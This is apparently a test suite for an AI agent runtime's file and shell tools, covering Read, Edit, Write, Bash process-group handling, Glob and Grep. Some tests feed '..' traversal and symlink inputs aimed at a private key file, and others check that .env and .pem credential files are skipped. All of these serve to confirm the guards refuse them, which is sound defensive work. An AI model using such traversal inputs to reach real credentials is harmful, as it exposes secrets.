// The teammate's tools in-process, on a real temp directory: Read numbering/offset/limit, Edit
// uniqueness and replace_all, Write, Bash (timeout + process-group kill, output cap, background
// processes), Glob and Grep, input validation, and the protected-directory guard.
import { execFileSync } from 'node:child_process';
import { getEventListeners } from 'node:events';
import { promises as fs, existsSync } from 'node:fs';
import path from 'node:path';
import { execa } from 'execa';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { ALL_TOOLS, apiTools, findTool, subagentTools, toolsForType } from '../../../src/runtime/tools/index.js';
import { gate } from '../../../src/runtime/permission-gate.js';
import { PathGuard } from '../../../src/runtime/tools/paths.js';
import { readOnlyBashTool } from '../../../src/runtime/tools/read-only-bash.js';
import { AgentConfigPaths } from '../../../src/runtime/tools/agent-config.js';
import { SecretPaths } from '../../../src/runtime/tools/secrets.js';
import { groupAlive, OutputCap, ProcessGroups } from '../../../src/runtime/tools/process-groups.js';
import type { ToolContext, ToolOutput } from '../../../src/runtime/tools/types.js';
import type { RuleSet } from '../../../src/permissions/rules.js';
import { TaskList } from '../../../src/tasks/index.js';
import { Team } from '../../../src/team/team.js';
import { useTempRoot } from '../../support/tmp-root.js';
import { waitFor } from '../../support/wait.js';

let root: string;
let cwd: string;
let ctx: ToolContext;
let processes: ProcessGroups;
let home: string;
let rules: RuleSet;

useTempRoot((dir) => (root = dir), 'swarm-tools-');
beforeEach(async () => {
  cwd = await fs.realpath(path.join(root, '.'));
  cwd = path.join(cwd, 'work');
  await fs.mkdir(cwd);
  await fs.mkdir(path.join(root, 'teams/t'), { recursive: true });
  await fs.mkdir(path.join(root, 'swarm/keys'), { recursive: true });
  await fs.writeFile(path.join(root, 'swarm/keys/t.key'), 'SECRET PRIVATE KEY');
  home = path.join(root, 'home');
  await fs.mkdir(home);
  rules = { allow: [], deny: [] };
  processes = new ProcessGroups('/bin/sh', 300);
  ctx = {
    cwd,
    guard: await PathGuard.create(root, cwd),
    secrets: await SecretPaths.create(root, home),
    agentConfig: await AgentConfigPaths.create(root, { cwd, home }),
    teamRules: async () => rules,
    processes,
    shellEnv: { PATH: process.env.PATH ?? '/usr/bin:/bin' },
    messaging: { self: 'w1', send: async () => ['team-lead'], answerShutdown: async () => 'ok' },
    plan: { mode: 'default', submit: async () => ({ content: 'approved' }) },
    tasks: { self: 'w1', list: new TaskList(new Team(root, 't')), completed: () => undefined, member: async (name) => name },
  };
});
afterEach(async () => {
  await processes.killAll();
});

async function call(name: string, input: unknown, signal = new AbortController().signal): Promise<ToolOutput> {
  const tool = findTool(name)!;
  try {
    const inv = await tool.prepare(input, ctx);
    return await inv.execute(signal);
  } catch (e) {
    return { content: (e as Error).message, isError: true };
  }
}

describe('Read', () => {
  it('numbers lines like cat -n, honours offset and limit', async () => {
    await fs.writeFile(path.join(cwd, 'a.txt'), 'one\ntwo\nthree\nfour\n');
    expect(await call('Read', { file_path: 'a.txt' })).toEqual({ content: '     1\tone\n     2\ttwo\n     3\tthree\n     4\tfour' });
    expect((await call('Read', { file_path: path.join(cwd, 'a.txt'), offset: 2, limit: 2 })).content).toBe(
      '     2\ttwo\n     3\tthree\n(showing lines 2-3 of 4)',
    );
    expect(await call('Read', { file_path: 'missing.txt' })).toMatchObject({ isError: true, content: expect.stringContaining('does not exist') });
    await fs.writeFile(path.join(cwd, 'bin.dat'), Buffer.from([1, 0, 2]));
    expect(await call('Read', { file_path: 'bin.dat' })).toMatchObject({ isError: true, content: expect.stringContaining('binary') });
    expect(await call('Read', { file_path: '.' })).toMatchObject({ isError: true, content: expect.stringContaining('directory') });
  });

  it('rejects bad input with the field named', async () => {
    expect(await call('Read', { file_path: 'a.txt', offset: 0 })).toMatchObject({ isError: true, content: expect.stringMatching(/^invalid Read input: offset: /) });
    expect(await call('Read', {})).toMatchObject({ isError: true, content: expect.stringContaining('file_path') });
  });
});

describe('Edit and Write', () => {
  it('replaces a unique string, refuses an ambiguous one unless replace_all', async () => {
    const file = path.join(cwd, 'e.txt');
    await fs.writeFile(file, 'a = 1\nb = 1\nc = 2\n');
    expect(await call('Edit', { file_path: 'e.txt', old_string: '= 1', new_string: '= 9' })).toMatchObject({
      isError: true,
      content: expect.stringContaining('occurs 2 times'),
    });
    expect(await call('Edit', { file_path: 'e.txt', old_string: 'c = 2', new_string: 'c = $&3' })).toEqual({ content: `Edited ${file}: 1 replacement` });
    expect(await fs.readFile(file, 'utf8')).toBe('a = 1\nb = 1\nc = $&3\n');
    expect(await call('Edit', { file_path: 'e.txt', old_string: '= 1', new_string: '= 9', replace_all: true })).toEqual({ content: `Edited ${file}: 2 replacements` });
    expect(await fs.readFile(file, 'utf8')).toBe('a = 9\nb = 9\nc = $&3\n');
    expect(await call('Edit', { file_path: 'e.txt', old_string: 'zzz', new_string: 'y' })).toMatchObject({ isError: true, content: expect.stringContaining('not found') });
    expect(await call('Edit', { file_path: 'e.txt', old_string: 'a', new_string: 'a' })).toMatchObject({ isError: true });
  });

  it('creates files (parents too) with Write and with an empty old_string', async () => {
    expect((await call('Write', { file_path: 'd/e/f.txt', content: 'x\ny' })).content).toMatch(/^Created .*f\.txt \(2 lines, 3 chars\)$/);
    expect(await fs.readFile(path.join(cwd, 'd/e/f.txt'), 'utf8')).toBe('x\ny');
    expect((await call('Edit', { file_path: 'new.txt', old_string: '', new_string: 'hello' })).isError).toBeUndefined();
    expect(await call('Edit', { file_path: 'new.txt', old_string: '', new_string: 'again' })).toMatchObject({ isError: true });
  });

  it('a Write or Edit that makes a file shorter leaves no old tail', async () => {
    const file = path.join(cwd, 'long.txt');
    await fs.writeFile(file, 'a long first version of the file\nwith a second line\n');
    expect((await call('Write', { file_path: 'long.txt', content: 'short\n' })).isError).toBeUndefined();
    expect(await fs.readFile(file, 'utf8')).toBe('short\n');
    await fs.writeFile(file, 'keep this; drop everything after it: a tail that is longer than the rest\n');
    expect((await call('Edit', { file_path: 'long.txt', old_string: '; drop everything after it: a tail that is longer than the rest', new_string: '' })).isError).toBeUndefined();
    expect(await fs.readFile(file, 'utf8')).toBe('keep this\n');
    expect((await call('Write', { file_path: 'long.txt', content: '' })).isError).toBeUndefined();
    expect((await fs.stat(file)).size).toBe(0);
  });

  it("refuses the root's teams/ and swarm/ directories, also through symlinks and ..", async () => {
    await fs.symlink(path.join(root, 'teams'), path.join(cwd, 'innocent'));
    await fs.symlink(path.join(root, 'swarm/keys/t.key'), path.join(cwd, 'dangling-ok'));
    await fs.symlink(path.join(root, 'teams/t/new-file.json'), path.join(cwd, 'dangling'));
    for (const [tool, input] of [
      ['Write', { file_path: path.join(root, 'teams/t/config.json'), content: '{}' }],
      ['Write', { file_path: 'innocent/t/config.json', content: '{}' }],
      ['Write', { file_path: 'dangling', content: '{}' }],
      ['Read', { file_path: 'dangling-ok' }],
      ['Read', { file_path: '../swarm/keys/t.key' }],
      ['Edit', { file_path: '../swarm/keys/t.key', old_string: 'SECRET', new_string: 'x' }],
      ['Glob', { pattern: '*', path: '../swarm' }],
      ['Grep', { pattern: 'x', path: '../teams' }],
    ] as const) {
      expect(await call(tool, input), `${tool} ${JSON.stringify(input)}`).toMatchObject({ isError: true, content: expect.stringContaining("team's own files") });
    }
    expect(existsSync(path.join(root, 'teams/t/new-file.json'))).toBe(false);
    expect(existsSync(path.join(root, 'teams/t/config.json'))).toBe(false);
  });
});

describe('ProcessGroups: how a command ends', () => {
  const opts = (extra: Partial<Parameters<ProcessGroups['run']>[1]> = {}): Parameters<ProcessGroups['run']>[1] => ({
    cwd,
    env: { PATH: process.env.PATH ?? '/usr/bin:/bin' },
    timeoutMs: 30_000,
    maxOutput: 1000,
    ...extra,
  });

  it('a group gets its grace after SIGTERM, and SIGKILL when it ignores it', async () => {
    // Traps TERM to write a file and leave: the grace lets it finish.
    const polite = processes.run(`trap 'echo bye > bye; exit 0' TERM; echo $$ > pg1; while :; do sleep 0.05; done`, opts({ timeoutMs: 300 }));
    expect(await polite).toMatchObject({ timedOut: true });
    expect(await fs.readFile(path.join(cwd, 'bye'), 'utf8')).toBe('bye\n');
    // Ignores TERM: killed anyway once the grace is over.
    const pgid = await processes.run(`trap '' TERM; echo $$ > pg2; sleep 30 & echo started`, opts()).then(async () => Number(await fs.readFile(path.join(cwd, 'pg2'), 'utf8')));
    expect(groupAlive(pgid)).toBe(true);
    expect(await processes.killGroup(pgid)).toBe(true);
    expect(groupAlive(pgid)).toBe(false);
    expect(processes.running).not.toContain(pgid);
  });

  it('an abort before the start stops it at once; the abort listener goes when the command ends', async () => {
    const gone = new AbortController();
    gone.abort();
    const r = await processes.run('echo $$ > never; sleep 30', opts({ signal: gone.signal }));
    expect(r).toMatchObject({ aborted: true, timedOut: false, signal: 'SIGTERM' });
    const live = new AbortController();
    expect(await processes.run('echo hi', opts({ signal: live.signal }))).toMatchObject({ output: 'hi\n', exitCode: 0, aborted: false, leftRunning: false });
    expect(getEventListeners(live.signal, 'abort')).toEqual([]);
  });

  it('a shell that cannot start is a result naming it, not a hang', async () => {
    const none = new ProcessGroups(path.join(root, 'no-such-shell'), 300);
    expect(await none.run('true', opts())).toEqual({
      output: `failed to start ${path.join(root, 'no-such-shell')}: spawn ${path.join(root, 'no-such-shell')} ENOENT`,
      exitCode: null,
      signal: null,
      timedOut: false,
      aborted: false,
      truncated: 0,
      leftRunning: false,
      stderr: `failed to start ${path.join(root, 'no-such-shell')}: spawn ${path.join(root, 'no-such-shell')} ENOENT`,
    });
  });

  it('returns drainMs after the shell exits while a background process holds the output, collecting no more', async () => {
    const r = await processes.run('echo $$ > pg3; (sleep 0.5; echo late) & echo early', opts({ drainMs: 50 }));
    expect(r).toMatchObject({ output: 'early\n', exitCode: 0, leftRunning: true });
    const pgid = Number(await fs.readFile(path.join(cwd, 'pg3'), 'utf8'));
    expect(processes.running).toEqual([pgid]);
    await waitFor(() => !groupAlive(pgid), 5000, 'the background process to end');
    expect(processes.running).toEqual([]);
    // Output the shell itself closes at once is whole, with no drain wait and nothing left running.
    expect(await processes.run('printf a; printf b >&2', opts({ drainMs: 10_000 }))).toMatchObject({ output: 'ab', leftRunning: false });
  });

  it('a command reading its input reads an empty one instead of waiting for it', async () => {
    expect(await processes.run('cat; echo done', opts())).toMatchObject({ output: 'done\n', exitCode: 0, timedOut: false });
  });

  it('with input, the command reads it on its stdin; its stderr is also kept apart (for a hook: JSON in, feedback out)', async () => {
    const r = await processes.run('cat; echo oops >&2; exit 2', opts({ input: '{"a":1}' }));
    expect(r).toMatchObject({ exitCode: 2, stderr: 'oops\n' });
    expect(r.output).toContain('{"a":1}');
    expect(r.output).toContain('oops');
    // One that never reads its input (the pipe may break under it) ends normally.
    expect(await processes.run('exit 0', opts({ input: 'x'.repeat(1 << 20) }))).toMatchObject({ exitCode: 0, stderr: '' });
  });

  it('Bash reports a command that timed out or was interrupted as an error even when it exits 0 on SIGTERM', async () => {
    const polite = "trap 'exit 0' TERM; echo $$ > ready; while :; do sleep 0.05; done";
    // (sh may print "Terminated" for the sleep the group's SIGTERM ended.)
    expect(await call('Bash', { command: polite, timeout: 300 })).toEqual({ content: expect.stringMatching(/\nCommand timed out after 0s and was killed$/), isError: true });
    await fs.rm(path.join(cwd, 'ready'));
    const ac = new AbortController();
    const running = call('Bash', { command: polite }, ac.signal);
    await waitFor(() => existsSync(path.join(cwd, 'ready')), 5000, 'the command to start');
    ac.abort();
    expect(await running).toEqual({ content: expect.stringMatching(/\nCommand interrupted: the teammate is stopping$/), isError: true });
  });

  it('Bash reports a command killed by a signal as an error, and keeps leading blanks of the output', async () => {
    expect(await call('Bash', { command: 'echo "  indented"; kill -9 $$' })).toEqual({ content: '  indented\nKilled by SIGKILL', isError: true });
  });

  it('OutputCap keeps the halves exactly at their sizes, pushed in one piece or at the boundary', () => {
    const cut6 = '01234\n\n... [6 characters truncated] ...\n\nbcdef';
    for (const [max, pushes, text, dropped] of [
      [10, ['0123456789'], '0123456789', 0],
      [10, ['012', '3456789abcdef'], cut6, 6],
      [10, ['0123456789abcdef'], cut6, 6],
      [10, ['012', '34', '56789', ''], '0123456789', 0],
      [5, ['abcdefg'], 'ab\n\n... [2 characters truncated] ...\n\nefg', 2],
    ] as const) {
      const cap = new OutputCap(max);
      for (const p of pushes) cap.push(p);
      expect([cap.text(), cap.dropped], pushes.join('|')).toEqual([text, dropped]);
    }
  });
});

describe('Edit, Write and Read: every refusal word for word, and an Edit applied to the file as it is', () => {
  it('Write refuses a directory, and says whether it created or updated a file', async () => {
    await fs.mkdir(path.join(cwd, 'dir'));
    expect(await call('Write', { file_path: 'dir', content: 'x' })).toEqual({ isError: true, content: `${path.join(cwd, 'dir')} is a directory` });
    expect(await fs.readdir(path.join(cwd, 'dir'))).toEqual([]);
    const file = path.join(cwd, 'w.txt');
    expect(await call('Write', { file_path: 'w.txt', content: '' })).toEqual({ content: `Created ${file} (0 lines, 0 chars)` });
    expect(await call('Write', { file_path: 'w.txt', content: 'a\nb\n' })).toEqual({ content: `Updated ${file} (3 lines, 4 chars)` });
  });

  it('Edit says why it does not apply, and changes nothing then', async () => {
    const file = path.join(cwd, 'e.txt');
    await fs.writeFile(file, 'x = 1\ny = 1\n');
    expect(await call('Edit', { file_path: 'e.txt', old_string: 'x', new_string: 'x' })).toEqual({ isError: true, content: 'old_string and new_string are the same; nothing to change' });
    expect(await call('Edit', { file_path: 'e.txt', old_string: 'z', new_string: 'q' })).toEqual({
      isError: true,
      content: `old_string was not found in ${file}; Read the file and copy the text exactly`,
    });
    expect(await call('Edit', { file_path: 'e.txt', old_string: ' = 1', new_string: ' = 2' })).toEqual({
      isError: true,
      content: `old_string occurs 2 times in ${file}; add surrounding context to make it unique, or set replace_all`,
    });
    expect(await call('Edit', { file_path: 'e.txt', old_string: '', new_string: 'new' })).toEqual({ isError: true, content: `${file} already exists; give an old_string to edit it` });
    expect(await fs.readFile(file, 'utf8')).toBe('x = 1\ny = 1\n');
    expect(await call('Edit', { file_path: 'gone.txt', old_string: 'a', new_string: 'b' })).toEqual({
      isError: true,
      content: `file does not exist: ${path.join(cwd, 'gone.txt')} (use an empty old_string or Write to create it)`,
    });
    await fs.mkdir(path.join(cwd, 'dir'));
    expect(await call('Edit', { file_path: 'dir', old_string: 'a', new_string: 'b' })).toEqual({ isError: true, content: `cannot read ${path.join(cwd, 'dir')}: EISDIR: illegal operation on a directory, read` });
    // An empty file is no content to lose: an empty old_string fills it.
    await fs.writeFile(path.join(cwd, 'empty.txt'), '');
    expect(await call('Edit', { file_path: 'empty.txt', old_string: '', new_string: 'filled' })).toEqual({ content: `Created ${path.join(cwd, 'empty.txt')}` });
    expect(await fs.readFile(path.join(cwd, 'empty.txt'), 'utf8')).toBe('filled');
  });

  it('an Edit checked against one version of the file is applied to the version there when it runs, or refused', async () => {
    const file = path.join(cwd, 'race.txt');
    await fs.writeFile(file, 'keep\nold\n');
    const edit = await findTool('Edit')!.prepare({ file_path: 'race.txt', old_string: 'old', new_string: 'new' }, ctx);
    await fs.writeFile(file, 'changed meanwhile\nold\n');
    expect(await edit.execute(new AbortController().signal)).toEqual({ content: `Edited ${file}: 1 replacement` });
    expect(await fs.readFile(file, 'utf8')).toBe('changed meanwhile\nnew\n');
    const again = await findTool('Edit')!.prepare({ file_path: 'race.txt', old_string: 'new', new_string: 'newer' }, ctx);
    await fs.writeFile(file, 'rewritten\n');
    await expect(again.execute(new AbortController().signal)).rejects.toThrow(`old_string was not found in ${file}`);
    expect(await fs.readFile(file, 'utf8')).toBe('rewritten\n');
  });

  it('Read says when a file is empty, or holds nothing at the offset, cuts long lines, and refuses a huge file without a limit', async () => {
    const empty = path.join(cwd, 'empty.txt');
    await fs.writeFile(empty, '');
    expect(await call('Read', { file_path: 'empty.txt' })).toEqual({ content: `(${empty} exists but is empty)` });
    const two = path.join(cwd, 'two.txt');
    await fs.writeFile(two, 'a\nb\n');
    expect(await call('Read', { file_path: 'two.txt', offset: 3 })).toEqual({ content: `(${two} has 2 lines; nothing at offset 3)` });
    expect(await call('Read', { file_path: 'two.txt', offset: 2 })).toEqual({ content: '     2\tb' });
    await fs.writeFile(path.join(cwd, 'long.txt'), `${'x'.repeat(2000)}\n${'y'.repeat(2001)}`);
    expect(await call('Read', { file_path: 'long.txt' })).toEqual({ content: `     1\t${'x'.repeat(2000)}\n     2\t${'y'.repeat(2000)}… [line cut at 2000 chars]` });
    // A NUL past the first 8000 bytes: still text (only the start is looked at, as git does).
    await fs.writeFile(path.join(cwd, 'late-nul.txt'), `${'t'.repeat(8000)}\0`);
    expect((await call('Read', { file_path: 'late-nul.txt' })).isError).toBeUndefined();
    const huge = path.join(cwd, 'huge.log');
    await fs.writeFile(huge, 'first line\n');
    await fs.truncate(huge, 10 * 1024 * 1024 + 1); // sparse: no 10 MB written
    expect(await call('Read', { file_path: 'huge.log' })).toEqual({ isError: true, content: `${huge} is 10485761 bytes; read a part of it with offset and limit, or use Grep` });
    // With a limit it is read (and its NULs make it binary); at exactly 10 MB, without one too.
    expect(await call('Read', { file_path: 'huge.log', limit: 1 })).toEqual({ isError: true, content: `${huge} is a binary file (10485761 bytes); it cannot be shown as text` });
    await fs.truncate(huge, 10 * 1024 * 1024);
    expect(await call('Read', { file_path: 'huge.log' })).toEqual({ isError: true, content: `${huge} is a binary file (10485760 bytes); it cannot be shown as text` });
  });
});

describe('Bash', () => {
  it("bash never reads the person's ~/.bashrc (its stdin is no socket), and a hook's input arrives whole", async () => {
    if (!existsSync('/bin/bash')) return; // the shell of the test is sh elsewhere
    const home = path.join(root, 'bash-home');
    await fs.mkdir(home);
    // A .bashrc that prints, and reads stdin (it would eat a hook's JSON), as Debian's bash would
    // run it for an "ssh session" (stdin a socket, SHLVL unset).
    await fs.writeFile(path.join(home, '.bashrc'), 'echo BASHRC-RAN; read -r _eaten\n');
    const bash = new ProcessGroups('/bin/bash', 300);
    const env = { PATH: process.env.PATH ?? '/usr/bin:/bin', HOME: home };
    const plain = await bash.run('echo ran', { cwd: root, env, timeoutMs: 10_000, maxOutput: 10_000 });
    expect(plain.output).toBe('ran\n');
    const fed = await bash.run('cat', { cwd: root, env, timeoutMs: 10_000, maxOutput: 10_000, input: '{"hook_event_name":"TaskCreated"}\n' });
    expect(fed.output).toBe('{"hook_event_name":"TaskCreated"}\n');
  });

  it('runs in the cwd and reports a non-zero exit as an error with its output', async () => {
    expect(await call('Bash', { command: 'pwd' })).toEqual({ content: cwd, isError: false });
    expect(await call('Bash', { command: 'echo out; echo err >&2; exit 3' })).toEqual({ content: 'out\nerr\nExit code 3', isError: true });
    expect(await call('Bash', { command: 'true' })).toEqual({ content: '(no output)', isError: false });
    expect(await call('Bash', { command: 'ls', timeout: 700_000 })).toMatchObject({ isError: true, content: expect.stringContaining('timeout') });
  });

  it('kills the whole process group on timeout', async () => {
    const started = Date.now();
    const r = await call('Bash', { command: 'echo $$ > pgid; sleep 30 & sleep 30', timeout: 300 });
    expect(r.isError).toBe(true);
    expect(r.content).toContain('timed out after 0s');
    expect(Date.now() - started).toBeLessThan(5000);
    const pgid = Number(await fs.readFile(path.join(cwd, 'pgid'), 'utf8'));
    await waitFor(() => !groupAlive(pgid), 3000, 'the process group gone');
  });

  it('kills the group when aborted, and leaves background processes tracked until killAll', async () => {
    const ac = new AbortController();
    const running = call('Bash', { command: 'echo $$ > pgid2; sleep 30' }, ac.signal);
    await waitFor(() => existsSync(path.join(cwd, 'pgid2')), 3000, 'the command to start');
    ac.abort();
    expect(await running).toMatchObject({ isError: true, content: expect.stringContaining('interrupted') });

    const bg = await call('Bash', { command: 'echo $$ > pgid3; sleep 30 & echo started' });
    expect(bg.content).toContain('started');
    expect(bg.content).toContain('background processes it started are still running');
    const pgid = Number(await fs.readFile(path.join(cwd, 'pgid3'), 'utf8'));
    expect(groupAlive(pgid)).toBe(true);
    expect(processes.running).toContain(pgid);
    expect(await processes.killAll()).toEqual([]);
    expect(groupAlive(pgid)).toBe(false);
  });

  it('caps output, keeping head and tail and saying how much was cut', async () => {
    const r = await call('Bash', { command: 'seq 1 20000' });
    expect(r.content.length).toBeLessThan(31_000);
    expect(r.content.startsWith('1\n2\n3\n')).toBe(true);
    expect(r.content).toContain('20000');
    expect(r.content).toMatch(/characters truncated/);
    expect(r.content).toMatch(/output truncated: \d+ characters cut from the middle/);
  });

  it('OutputCap keeps exactly the first and last halves', () => {
    const cap = new OutputCap(10);
    for (const c of 'abcdefghijklmnopqrstuvwxyz') cap.push(c);
    expect(cap.dropped).toBe(16);
    expect(cap.text()).toBe('abcde\n\n... [16 characters truncated] ...\n\nvwxyz');
  });

  it("the read-only agent types' Bash refuses a writing command before running it, and runs a read-only one", async () => {
    const refused = readOnlyBashTool.prepare({ command: 'touch made' }, ctx);
    await expect(refused).rejects.toMatchObject({ kind: 'invalid_input', message: expect.stringMatching(/^Refused: this agent type may only run read-only commands, and this one has touch is not on the read-only list \(.*\)\. Use Read, Glob or Grep, or a plain read-only command\.$/) });
    expect(existsSync(path.join(cwd, 'made'))).toBe(false);
    const inv = await readOnlyBashTool.prepare({ command: 'pwd' }, ctx);
    expect(inv.summary).toBe('pwd');
    expect(await inv.execute(new AbortController().signal)).toEqual({ content: cwd, isError: false });
  });
});

describe('Glob and Grep', () => {
  beforeEach(async () => {
    for (const [f, text] of [
      ['src/a.ts', 'export const A = 1;\n// TODO fix\n'],
      ['src/deep/b.ts', 'const b = "todo later";\n'],
      ['src/c.js', 'TODO\nTODO\n'],
      ['README.md', '# readme\n'],
      ['.hidden/x.ts', 'TODO hidden\n'],
      ['node_modules/m/index.ts', 'TODO in deps\n'],
    ] as const) {
      await fs.mkdir(path.dirname(path.join(cwd, f)), { recursive: true });
      await fs.writeFile(path.join(cwd, f), text);
    }
    await fs.writeFile(path.join(cwd, 'src/bin.ts'), Buffer.from('TODO\0binary'));
    await fs.symlink(path.join(root, 'swarm/keys/t.key'), path.join(cwd, 'src/key-link.ts'));
  });

  it('Glob matches ** and braces, skips node_modules, dot dirs and links into protected dirs', async () => {
    const r = await call('Glob', { pattern: '**/*.ts' });
    const files = r.content.split('\n').map((f) => path.relative(cwd, f)).sort();
    expect(files).toEqual(['src/a.ts', 'src/bin.ts', 'src/deep/b.ts']);
    const braces = (await call('Glob', { pattern: 'src/*.{js,md}' })).content.split('\n').map((f) => path.relative(cwd, f));
    expect(braces).toEqual(['src/c.js']);
    expect((await call('Glob', { pattern: '*.ts', path: 'src/deep' })).content).toBe(path.join(cwd, 'src/deep/b.ts'));
    expect(await call('Glob', { pattern: '**/*.py' })).toEqual({ content: 'No files found' });
    expect((await call('Glob', { pattern: 'node_modules/**/*.ts' })).content).toContain('index.ts');
  });

  it('a Glob pattern that names only a directory is refused saying to give a file part', async () => {
    for (const pattern of ['.', './', '/']) {
      const r = await call('Glob', { pattern });
      expect(r, pattern).toMatchObject({ isError: true, content: expect.stringContaining(`pattern ${JSON.stringify(pattern)} names no files, only a directory: give a file part, e.g. "**/*" or "src/**/*.ts"`) });
    }
  });

  it('Grep lists files, shows content with line numbers, counts, filters by glob, -i', async () => {
    const files = await call('Grep', { pattern: 'TODO' });
    expect(files.content.split('\n')[0]).toBe('Found 2 files');
    expect(files.content).toContain(path.join(cwd, 'src/a.ts'));
    expect(files.content).not.toContain('bin.ts');
    expect(files.content).not.toContain('key-link');
    expect(files.content).not.toContain('node_modules');
    expect((await call('Grep', { pattern: 'todo', '-i': true, glob: '*.ts' })).content.split('\n')[0]).toBe('Found 2 files');
    expect((await call('Grep', { pattern: 'TODO', output_mode: 'content', path: 'src/a.ts' })).content).toBe(`${path.join(cwd, 'src/a.ts')}:2:// TODO fix`);
    expect((await call('Grep', { pattern: 'TODO', output_mode: 'content', path: 'src/a.ts', '-n': false })).content).toBe(`${path.join(cwd, 'src/a.ts')}:// TODO fix`);
    expect((await call('Grep', { pattern: 'TODO', output_mode: 'count', glob: 'src/*.js' })).content).toBe(`${path.join(cwd, 'src/c.js')}:2`);
    expect(await call('Grep', { pattern: 'nothing-here' })).toEqual({ content: 'No matches found' });
    expect(await call('Grep', { pattern: '(' })).toMatchObject({ isError: true, content: expect.stringContaining('regular expression') });
  });
});

describe('Glob and Grep: limits, order, skipped files and refusals word for word', () => {
  const at = (f: string): string => path.join(cwd, f);
  async function write(f: string, text: string, mtimeS?: number): Promise<void> {
    await fs.mkdir(path.dirname(at(f)), { recursive: true });
    await fs.writeFile(at(f), text);
    if (mtimeS !== undefined) await fs.utimes(at(f), mtimeS, mtimeS);
  }

  it('a search path that is missing, or not a directory for Glob, is refused by name', async () => {
    await write('f.txt', 'x\n');
    expect(await call('Glob', { pattern: '*', path: 'nope' })).toEqual({ isError: true, content: `path does not exist: ${at('nope')}` });
    expect(await call('Glob', { pattern: '*', path: 'f.txt' })).toEqual({ isError: true, content: `path is not a directory: ${at('f.txt')}` });
    expect(await call('Grep', { pattern: 'x', path: 'nope' })).toEqual({ isError: true, content: `path does not exist: ${at('nope')}` });
  });

  it('lists newest first, caps Glob at 100 files and head_limit in every Grep mode', async () => {
    await write('old.txt', 'hit 1\nhit 2\n', 1_000_000);
    await write('mid.txt', 'hit 3\n', 2_000_000);
    await write('new.txt', 'hit 4\n', 3_000_000);
    expect((await call('Glob', { pattern: '*.txt' })).content).toBe([at('new.txt'), at('mid.txt'), at('old.txt')].join('\n'));
    expect((await call('Grep', { pattern: 'hit' })).content).toBe(['Found 3 files', at('new.txt'), at('mid.txt'), at('old.txt')].join('\n'));
    expect((await call('Grep', { pattern: 'hit', head_limit: 1 })).content).toBe(['Found 3 files', at('new.txt')].join('\n'));
    expect((await call('Grep', { pattern: 'hit', output_mode: 'count', head_limit: 2 })).content).toBe([`${at('mid.txt')}:1`, `${at('new.txt')}:1`].join('\n'));
    expect((await call('Grep', { pattern: 'hit', output_mode: 'content', head_limit: 3 })).content).toBe([`${at('mid.txt')}:1:hit 3`, `${at('new.txt')}:1:hit 4`, `${at('old.txt')}:1:hit 1`].join('\n'));
    for (let i = 0; i < 99; i++) await write(`many/f${String(i).padStart(3, '0')}.md`, '', 4_000_000 + i);
    const many = (await call('Glob', { pattern: '**/*.{md,txt}' })).content.split('\n');
    expect(many).toHaveLength(101);
    expect(many[0]).toBe(at('many/f098.md'));
    expect(many[99]).toBe(at('new.txt'));
    expect(many[100]).toBe('(102 files matched; showing the 100 newest — narrow the pattern)');
  });

  it('Grep cuts long lines, skips files over 10 MB, and names at most three protected files it left out', async () => {
    await write('long.txt', `hit ${'x'.repeat(600)}\n`);
    expect((await call('Grep', { pattern: 'hit', output_mode: 'content', path: 'long.txt' })).content).toBe(`${at('long.txt')}:1:hit ${'x'.repeat(496)}…`);
    await write('big/exact.txt', `hit\n${'a'.repeat(10 * 1024 * 1024 - 4)}`);
    await write('big/over.txt', `hit\n${'a'.repeat(10 * 1024 * 1024 - 3)}`);
    expect((await call('Grep', { pattern: 'hit', path: 'big' })).content).toBe(['Found 1 file', at('big/exact.txt')].join('\n'));
    for (const f of ['k/.env', 'k/a.pem', 'k/b.pem', 'k/c.pem']) await write(f, 'hit\n');
    expect((await call('Grep', { pattern: 'hit', path: 'k' })).content).toBe(
      `No matches found\n(not searched: 4 protected files (credentials): ${at('k/.env')}, ${at('k/a.pem')}, ${at('k/b.pem')} and 1 more; Read one to ask team-lead)`,
    );
  });

  it('Glob enters hidden directories and node_modules only when the pattern names them', async () => {
    await write('.cache/x.ts', '');
    await write('node_modules/m/y.ts', '');
    await write('src/z.ts', '');
    expect((await call('Glob', { pattern: '**/*.ts' })).content).toBe(at('src/z.ts'));
    expect((await call('Glob', { pattern: '.cache/*.ts' })).content).toBe(at('.cache/x.ts'));
    expect((await call('Glob', { pattern: '**/.cache/*.ts' })).content).toBe(at('.cache/x.ts'));
    expect((await call('Glob', { pattern: 'node_modules/**/*.ts' })).content).toBe(at('node_modules/m/y.ts'));
  });

  it('a pattern whose first segment starts with a dot enters hidden directories; a "." segment is no segment', async () => {
    await write('.cache/x.ts', '');
    await write('src/a/b.ts', '');
    expect((await call('Glob', { pattern: '.c*/*.ts' })).content).toBe(at('.cache/x.ts'));
    expect((await call('Glob', { pattern: 'src/*/./b.ts' })).content).toBe(at('src/a/b.ts'));
  });

  it('files modified at the same moment are listed in path order, by Glob and by Grep', async () => {
    for (const f of ['b.txt', 'a.txt', 'c.txt']) await write(f, 'hit\n', 1_000_000);
    expect((await call('Glob', { pattern: '*.txt' })).content).toBe([at('a.txt'), at('b.txt'), at('c.txt')].join('\n'));
    expect((await call('Grep', { pattern: 'hit' })).content).toBe(['Found 3 files', at('a.txt'), at('b.txt'), at('c.txt')].join('\n'));
  });

  it("a NUL in a search path or in a Glob pattern's directory is refused naming the field; refusals keep their error kind", async () => {
    await write('f.txt', 'x\n');
    expect(await call('Glob', { pattern: '*', path: 'a\0b' })).toEqual({ isError: true, content: 'path: contains a NUL character' });
    expect(await call('Grep', { pattern: 'x', path: 'a\0b' })).toEqual({ isError: true, content: 'path: contains a NUL character' });
    expect(await call('Glob', { pattern: 'a\0b/*.ts' })).toEqual({ isError: true, content: 'pattern: contains a NUL character' });
    const prepared = (name: string, input: unknown) => findTool(name)!.prepare(input, ctx);
    await expect(prepared('Glob', { pattern: '*', path: 'nope' })).rejects.toMatchObject({ kind: 'not_found' });
    await expect(prepared('Glob', { pattern: '*', path: 'f.txt' })).rejects.toMatchObject({ kind: 'invalid_input' });
    await expect(prepared('Grep', { pattern: '(' })).rejects.toMatchObject({ kind: 'invalid_input' });
    await expect((await prepared('Grep', { pattern: 'x', path: 'nope' })).execute(new AbortController().signal)).rejects.toMatchObject({ kind: 'not_found' });
    // A bad glob is refused before anything is asked or run.
    await expect(prepared('Grep', { pattern: 'x', glob: '{a' })).rejects.toThrow('glob "{a": unclosed {');
  });

